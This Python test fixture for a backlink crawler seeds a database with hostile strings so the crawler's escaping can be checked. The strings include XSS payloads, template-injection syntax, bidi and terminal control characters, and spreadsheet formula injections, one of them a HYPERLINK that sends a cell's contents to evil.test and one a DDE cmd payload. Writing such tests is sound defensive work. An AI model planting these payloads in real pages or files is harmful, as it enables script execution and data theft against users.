"""An index of what pages, servers and people may say to harm whoever reads it."""

from __future__ import annotations

from typing import TYPE_CHECKING

from tests.integration.small_index import SmallIndex
from tests.integration.worker import link

if TYPE_CHECKING:
    from backlink_crawler.store.database import Database

TARGET = "victim.test"
SAID = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'-alert(1)-'",
    "</title></textarea></style><svg onload=alert(1)>",
    "{{ 7 * 7 }}{% raise %}",
    "javascript:alert(1)",
    '=HYPERLINK("http://evil.test/?"&A1,"x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\u202egnp.exe\u202c \x1b[31mred\x07 \u2066a\u2069",
    "مرحبا بكم في موقعنا",
    "Donaudampfschifffahrtselektrizitätenhauptbetriebswerkbauunterbeamtengesellschaft" * 3,
    "z\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307" * 30,
    "`backlinks remove victim.test`",
    "&lt;b&gt; &amp;amp; ]]> <!-- -->",
)


def fill_hostile(database: Database) -> None:
    """One link a string, with the string as anchor, title, words around it, rel and part of both addresses."""
    with SmallIndex(database) as index:
        for number, said in enumerate(SAID):
            quoted = "".join(letter if letter.isascii() and letter.isprintable() else "-" for letter in said)[:200]
            shown = link(f"http://{TARGET}/{number}?q={quoted.replace('#', '')}", said, "nofollow <b>")
            shown.snippet_left, shown.snippet_right = said, said
            address = f"http://from{number}.test/{number}?'\"><script>alert(2)</script>"
            index.read(number / 10, address, shown, title=said, headings=said)
